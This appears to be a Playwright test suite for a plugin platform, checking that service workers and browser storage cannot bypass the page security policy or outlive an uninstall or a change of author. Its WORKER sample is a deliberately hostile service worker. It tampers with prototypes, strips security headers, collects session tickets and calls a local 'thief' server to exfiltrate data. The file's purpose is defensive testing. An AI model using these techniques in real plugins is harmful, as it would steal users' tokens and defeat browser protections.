// Class: the state of browsers ends with the release. Service workers, storage and cached files of an own origin outlive the page that
// made them: none may take the page policy away, answer for another release, or be there for the next author of an id.

import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type TestContext, test } from 'node:test'
import { Hono } from 'hono'
import type { Page } from 'playwright-core'
import { createApp } from '../../runtime/app.ts'
import type { Listening } from '../../runtime/http/server/node-server.ts'
import type { Runtime } from '../../runtime/runtime.ts'
import { openBrowser, openProfile, startWholeChromium } from '../support/chromium.ts'
import {
  ADMIN_TOKEN,
  api,
  backendOf,
  install,
  logLines,
  type PluginSource,
  send,
  startTestRuntime,
} from '../support/runtime.ts'
import { listenWith } from './helpers/embedding.ts'
import { record } from './helpers/record.ts'

const GRANTED = { permissions: { serviceWorker: true } }

/** Answers every navigation and every worker by itself, in each way that might lose the policy. It hides the globals that the guard uses. */
const WORKER = `
function Response() {} ; function addEventListener() {} ; function fetch() {} ; function Promise() {}
const theirs = Object.getPrototypeOf(new Headers())
for (const [owner, name, value] of [
  [Object.getPrototypeOf(async function () {}()), 'then', function (done) { done(self.evil()) }],
  [Object.getPrototypeOf(async function () {}()), 'constructor', Object],
  [theirs, 'append', () => {}],
  [theirs, 'forEach', () => {}],
  [Reflect, 'apply', () => {}],
  [Function.prototype, 'call', () => {}],
  [Array.prototype, Symbol.iterator, null],
]) { try { owner[name] = value } catch {} }
try { delete FetchEvent.prototype.respondWith } catch {}
self.tickets = []
oninstall = (event) => {
  try {
    event.addRoutes({ condition: { urlPattern: new URLPattern({ pathname: '/routed' }) }, source: 'cache' })
  } catch {}
  skipWaiting()
}
onactivate = (event) => event.waitUntil(clients.claim())
onfetch = (event) => {
  const { url } = event.request
  if (url.includes('plugbay-ticket')) self.tickets.push(url)
  if (url.endsWith('/seen')) return event.respondWith(new self.KeptResponse(JSON.stringify(self.tickets)))
  const headers = { 'content-type': url.endsWith('made.js') ? 'text/javascript' : 'text/html' }
  const body = url.endsWith('made.js')
    ? 'fetch("THIEF/worker").then(() => postMessage("sent"), () => postMessage("refused"))'
    : '<!doctype html><title>by the worker</title><p>by the worker</p>'
  const answer = new self.KeptResponse(body, { headers })
  Object.defineProperty(answer, 'headers', { value: new Headers() })
  if (event.request.mode === 'navigate' || url.endsWith('made.js')) event.respondWith(answer)
}
`

const workerFor = (thief: string): Record<string, string> => ({
  'frontend/sw.js': 'importScripts("/kept.js", "/evil.js")',
  'frontend/kept.js': 'self.KeptResponse = Response; self.evil = () => new self.KeptResponse("evil")',
  'frontend/evil.js': WORKER.replace('THIEF', thief),
})

interface World {
  readonly runtime: Runtime
  readonly page: Page
  /** The own origin of "notes". */
  readonly own: string
  readonly shell: string
  readonly thief: string
  /** What the thief was asked for. */
  readonly stolen: readonly string[]
  goOffline(): Promise<void>
  goOnline(): Promise<void>
}

async function world(t: TestContext): Promise<World | undefined> {
  const browser = await openBrowser(t, startWholeChromium)
  if (browser === undefined) return undefined
  const stolen: string[] = []
  const thief = createServer((request, response) => {
    stolen.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*')
    response.end('taken')
  })
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve))
  t.after(() => {
    thief.closeAllConnections()
    thief.close()
  })
  const runtime = await startTestRuntime(t)
  let listening: Listening = await runtime.http.listen({ port: 0 })
  const { port } = listening
  t.after(() => listening.close(0))
  const context = await browser.newContext()
  return {
    runtime,
    page: await context.newPage(),
    own: `http://notes.localhost:${port}`,
    shell: `http://localhost:${port}`,
    thief: `http://127.0.0.1:${(thief.address() as AddressInfo).port}`,
    stolen,
    goOffline: () => listening.close(0),
    async goOnline() {
      listening = await runtime.http.listen({ port })
    },
  }
}

const notes = (version: string, source: Partial<PluginSource> = {}): PluginSource => ({
  id: 'notes',
  version,
  ...source,
  files: {
    'frontend/index.html': `<!doctype html><title>${version}</title><p>${version}</p>`,
    ...source.files,
  },
  manifest: { author: 'Ada', ...source.manifest },
})

/** Resolves with "registered" when the worker controls the page, or with the error. */
const register = (page: Page, options: RegistrationOptions = {}, script = '/sw.js') =>
  page.evaluate(
    async ([url, given]) => {
      try {
        await navigator.serviceWorker.register(url, given)
      } catch (error) {
        return String(error)
      }
      if (navigator.serviceWorker.controller === null)
        await new Promise((resolve) => navigator.serviceWorker.addEventListener('controllerchange', resolve))
      return 'registered'
    },
    [script, options] as const,
  )

/** Leaves something in each kind of storage. */
const fill = (page: Page) =>
  page.evaluate(async () => {
    localStorage.setItem('left', 'by Ada')
    await (await caches.open('left')).put(
      '/routed',
      new Response('routed', { headers: { 'content-type': 'text/html' } }),
    )
    await new Promise((resolve) => {
      indexedDB.open('left').onsuccess = resolve
    })
  })

const left = (page: Page) =>
  page.evaluate(async () => ({
    local: localStorage.getItem('left'),
    caches: await caches.keys(),
    databases: (await indexedDB.databases()).map(({ name }) => name),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }))

const NOTHING = { local: null, caches: [], databases: [], workers: 0 }

const untilNoWorker = (page: Page) =>
  page.waitForFunction(async () => (await navigator.serviceWorker.getRegistrations()).length === 0)

test('a service worker needs a permission that is asked and granted, and a file of the package', async (t) => {
  const found = await world(t)
  if (found === undefined) return
  const { runtime, page, own, thief } = found
  const backend = backendOf(
    `return new Response('', { headers: { 'content-type': 'text/javascript', 'service-worker-allowed': '/' } })`,
  )
  await install(runtime, notes('1.0.0', { files: workerFor(thief), backend }))
  await page.goto(`${own}/`)
  assert.match(await register(page), /^TypeError/)
  assert.ok(
    (await logLines(runtime, 'notes')).some(({ message }) => message.includes('permissions.serviceWorker')),
  )
  await install(runtime, notes('1.1.0', { files: workerFor(thief), backend, manifest: GRANTED }), {
    grant: 'all',
  })
  await page.reload()
  assert.match(await register(page, {}, '/api/sw.js'), /^TypeError/)
  assert.match(await register(page, {}, '/index.html'), /Error/)
  assert.match(await register(page, { type: 'module' }), /^TypeError/, 'imports would run before the guard')
  assert.equal(await register(page), 'registered')
  assert.equal((await send(runtime, 'PUT', '/plugins/notes/grants', {})).status, 200)
  await page.reload()
  await untilNoWorker(page)
})

test('a service worker answers for pages without a connection, with the page policy, and never instead of the server', async (t) => {
  const found = await world(t)
  if (found === undefined) return
  const { runtime, page, own, thief, stolen } = found
  await install(runtime, notes('1.0.0', { files: workerFor(thief), manifest: GRANTED }))
  await page.goto(`${own}/`)
  assert.equal(await register(page), 'registered')
  await fill(page)
  await page.goto(`${own}/`)
  assert.equal(await page.title(), '1.0.0', 'the server can be reached')
  await found.goOffline()
  const answer = await page.goto(`${own}/deep/link`)
  assert.equal(await page.title(), 'by the worker')
  assert.equal(answer?.fromServiceWorker(), true)
  assert.match(answer?.headers()['content-security-policy'] ?? '', /default-src 'none'/)
  const results = await page.evaluate(
    async (at) => [
      await fetch(`${at}/page`).then(
        () => 'sent',
        () => 'refused',
      ),
      await new Promise((resolve) => {
        const worker = new Worker('/made.js')
        worker.onmessage = ({ data }) => resolve(data)
        worker.onerror = () => resolve('no worker')
      }),
    ],
    thief,
  )
  assert.equal(results[0], 'refused')
  assert.equal(results[1], 'refused')
  await page.goto(`${own}/routed`)
  assert.equal(await page.title(), 'by the worker', 'no route answers from a cache')
  assert.deepEqual(stolen, [])
  await found.goOnline()
  await page.goto(`${own}/`)
  assert.equal(await page.title(), '1.0.0')
  record({
    id: 'B1',
    area: 'browsers',
    title: 'a service worker that would answer without the page policy',
    culprit: 'its answers bear it',
    neighbour: { requests: 1, failed: 0 },
  })
})

test('after a rollback the first page is that of the server, and the worker ends; storage of the same author stays', async (t) => {
  const found = await world(t)
  if (found === undefined) return
  const { runtime, page, own, thief } = found
  await install(runtime, notes('1.0.0'))
  await install(runtime, notes('2.0.0', { files: workerFor(thief), manifest: GRANTED }), { grant: 'all' })
  await page.goto(`${own}/`)
  assert.equal(await register(page), 'registered')
  await fill(page)
  assert.equal((await send(runtime, 'POST', '/plugins/notes/rollback')).status, 200)
  await page.goto(`${own}/`)
  assert.equal(await page.title(), '1.0.0')
  await untilNoWorker(page)
  assert.equal((await left(page)).local, 'by Ada')
  // Neither a plugin that is disabled for a while nor one that stops loses what its visitors keep.
  assert.equal((await send(runtime, 'POST', '/plugins/notes/disable')).status, 200)
  assert.equal((await page.goto(`${own}/`))?.status(), 404)
  assert.equal((await left(page)).local, 'by Ada')
})

test('after an uninstall nothing of the plugin is left in the browser', async (t) => {
  const found = await world(t)
  if (found === undefined) return
  const { runtime, page, own, thief } = found
  await install(runtime, notes('1.0.0', { files: workerFor(thief), manifest: GRANTED }))
  await page.goto(`${own}/`)
  assert.equal(await register(page), 'registered')
  await fill(page)
  assert.equal((await api(runtime, '/plugins/notes', { method: 'DELETE' })).status, 204)
  assert.equal((await page.goto(`${own}/`))?.status(), 404)
  assert.deepEqual(await left(page), NOTHING)
})

for (const [name, replace] of [
  ['an update of another author', async () => undefined],
  [
    'another plugin under the id',
    async (runtime: Runtime) => void (await api(runtime, '/plugins/notes', { method: 'DELETE' })),
  ],
] as const)
  test(`${name} finds no worker and no storage of the one before, which sees no ticket`, async (t) => {
    const found = await world(t)
    if (found === undefined) return
    const { runtime, page, own, shell, thief } = found
    await install(
      runtime,
      notes('1.0.0', { files: workerFor(thief), manifest: { ...GRANTED, author: 'Mallory' } }),
    )
    await page.goto(`${own}/`)
    assert.equal(await register(page), 'registered')
    await fill(page)
    const seen = await page.evaluate(async () => (await fetch('/seen')).text())
    assert.equal(seen, '[]', 'the worker answers')
    await replace(runtime)
    await install(
      runtime,
      notes('2.0.0', {
        files: {
          'frontend/index.html':
            '<!doctype html><title>2.0.0</title><script>globalThis.first = localStorage.getItem("left")</script>',
        },
        manifest: { access: 'user' },
      }),
    )
    const tab = await page.context().newPage()
    await tab.goto(`${shell}/admin/`)
    await tab.evaluate(
      (token) =>
        fetch('/api/v1/session', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ token }),
        }),
      ADMIN_TOKEN,
    )
    const tickets = await page.evaluate(async () => (await fetch('/seen')).text())
    await page.goto('about:blank')
    await tab.evaluate(() => void location.assign('/plugins/notes/'))
    await tab.waitForURL(`${own}/`)
    assert.equal(await tab.title(), '2.0.0')
    assert.equal(tickets, '[]')
    assert.equal(await tab.evaluate(() => (globalThis as unknown as { first: unknown }).first), null)
    assert.deepEqual(await left(tab), NOTHING)
    await fill(tab)
    await tab.goto(`${own}/`)
    assert.equal((await left(tab)).local, 'by Ada', 'what the new one keeps stays')
  })

test('a page token of one author is worth nothing to the plugin of the next', async (t) => {
  const runtime = await startTestRuntime(t, {
    authenticate: async () => ({ name: 'Ada', permissions: [], kind: 'application' }),
  })
  const backend = backendOf(`return new Response(ctx.user?.name ?? 'nobody')`)
  const app = createApp(runtime)
  const url = 'http://127.0.0.1:3000/plugins/notes/'
  const access = { access: 'user' }
  await install(runtime, notes('1.0.0', { backend, manifest: { ...access, author: 'Mallory' } }))
  const html = await (await app.request(url)).text()
  const token = /plugbay-token" content="([^"]+)"/.exec(html)?.[1] ?? assert.fail(html)
  const ask = () => app.request(`${url}api/`, { headers: { origin: 'null', 'plugbay-token': token } })
  assert.equal(await (await ask()).text(), 'Ada')
  await install(runtime, notes('1.1.0', { backend, manifest: { ...access, author: 'Mallory' } }))
  assert.equal(await (await ask()).text(), 'Ada', 'updates keep open pages at work')
  await install(runtime, notes('2.0.0', { backend, manifest: access }))
  assert.equal((await ask()).status, 401)
})

test('storage in a frame of our own page stays from visit to visit', async (t) => {
  const browser = await openProfile(t)
  if (browser === undefined) return
  const runtime = await startTestRuntime(t)
  await install(runtime, notes('1.0.0'))
  const host = new Hono()
    .get('/framing', (c) => c.html(`<iframe src="${c.req.query('src')}"></iframe>`))
    .route('/', createApp(runtime))
  const port = await listenWith(t, host)
  const own = `http://notes.localhost:${port}/`
  const page = await browser.newPage()
  const visit = async () => {
    await page.goto(`http://localhost:${port}/framing?src=${own}`)
    const frame = page.frames()[1]
    assert.ok(frame)
    assert.equal(await frame.title(), '1.0.0')
    return frame.evaluate(() => {
      const before = localStorage.getItem('framed')
      localStorage.setItem('framed', 'kept')
      return before
    })
  }
  await page.goto(own)
  await page.evaluate(() => localStorage.setItem('left', 'here'))
  assert.equal(await visit(), null)
  assert.equal(await visit(), 'kept')
  await page.goto(own)
  assert.equal(await page.evaluate(() => localStorage.getItem('left')), 'here')
  assert.equal(await visit(), 'kept')
})
